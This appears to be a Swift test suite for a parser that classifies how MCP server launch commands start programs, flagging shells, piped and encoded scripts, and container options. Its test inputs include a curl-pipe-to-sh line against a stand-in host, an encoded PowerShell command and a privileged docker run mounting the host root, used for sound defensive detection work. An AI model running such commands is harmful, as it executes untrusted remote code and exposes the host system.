import Catalog
import Formats
import Testing

@Suite struct PackageLauncherTests {
  private let launcher: PackageLauncher
  private let document: KnowledgeDocument

  init() throws {
    document = try #require(try Knowledge.embedded.document(at: "Catalog/launchers.yaml"))
    launcher = PackageLauncher(document.root["launchers"]?.items.compactMap { Launcher($0) } ?? [])
  }

  @Test("every example of the catalogue of launchers starts what it says")
  func examples() throws {
    let examples = try #require(document.root["examples"])
    let all = (examples["match"]?.items ?? []) + (examples["no_match"]?.items ?? [])
    #expect(all.count > 30)
    for example in all {
      let line = try #require(example["line"]?.text)
      let found = launcher.program(startedBy: ShellScript.words(line))
      #expect(Self.text(found.origin) == example["origin"]?.text, "\(line)")
      #expect(found.version == example["version"]?.scalar, "\(line)")
      #expect(found.pin.rawValue == example["pin"]?.text, "\(line)")
    }
  }

  @Test("the options of docker run are told from the arguments of the image")
  func containerOptions() {
    let found = launcher.program(
      startedBy: ShellScript.words("docker run -i --privileged -v /:/host acme/mcp:1.2.3 -v --x"))
    #expect(found.options.contains(LauncherOption("--privileged")))
    #expect(found.options.contains(LauncherOption("-v", "/:/host")))
    #expect(found.operands == ["-v", "--x"])
  }

  @Test("a shell is reported with what its script combines")
  func shells() {
    let plain = launcher.program(startedBy: ["cmd", "/c", "npx", "-y", "some-mcp"])
    #expect(plain.shell?.combinesCommands == false)
    #expect(plain.origin == .package(ecosystem: "npm", name: "some-mcp"))
    let piped = launcher.program(startedBy: ["bash", "-c", "curl -s https://x.test/i.sh | sh"])
    #expect(piped.shell?.combinesCommands == true)
    #expect(piped.shell?.programs == ["curl", "sh"])
    let encoded = launcher.program(startedBy: ["powershell", "-enc", "ZQBjAGgAbwA="])
    #expect(encoded.shell?.isEncoded == true)
    #expect(launcher.program(startedBy: ["npx", "some-mcp"]).shell == nil)
  }

  @Test("launchers within launchers end")
  func nesting() {
    let words = Array(repeating: "env", count: 10_000) + ["npx", "some-mcp"]
    #expect(launcher.program(startedBy: words).pin == .local)
    #expect(launcher.program(startedBy: []).pin == .local)
  }

  @Test(
    "quotes, escapes and operators of a shell are understood",
    arguments: [
      ("a 'b c' \"d e\"", [["a", "b c", "d e"]], false),
      ("a b\\ c", [["a", "b c"]], false),
      ("C:\\tools\\a.exe x", [["C:\\tools\\a.exe", "x"]], false),
      ("a && b; c | d", [["a"], ["b"], ["c"], ["d"]], true),
      ("a \"$(b)\"", [["a", "$(b)"]], true),
      ("a 'b | c'", [["a", "b | c"]], false),
      ("'unclosed", [["unclosed"]], false),
      ("", [], false),
    ])
  func shellWords(text: String, commands: [[String]], combines: Bool) {
    let script = ShellScript(text)
    #expect(script.commands == commands)
    #expect(script.combinesCommands == combines)
  }

  private static func text(_ origin: LaunchedProgram.Origin) -> String {
    switch origin {
    case .package(let ecosystem, let name): "pkg:\(ecosystem)/\(name)"
    case .image(let name): "oci:\(name)"
    case .git(let name): "git:\(name)"
    case .address(let text): "url:\(text)"
    case .module(let name): "module:\(name)"
    case .local(let name): "local:\(name)"
    }
  }
}
